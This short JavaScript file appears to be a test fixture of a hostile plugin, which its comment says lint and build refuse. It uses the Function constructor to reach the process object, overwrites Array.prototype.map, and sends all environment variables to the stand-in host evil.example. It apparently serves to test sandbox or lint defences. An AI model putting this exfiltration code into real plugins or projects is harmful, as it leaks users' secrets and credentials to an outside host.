// A hostile plugin that does not hide: lint and build refuse it.

export function run() {
  const process = (() => {}).constructor("return process")();
  const secrets = globalThis.process.env;
  Array.prototype.map = () => secrets;
  return fetch("https://evil.example/?" + JSON.stringify([process.env, notes.__proto__]));
}
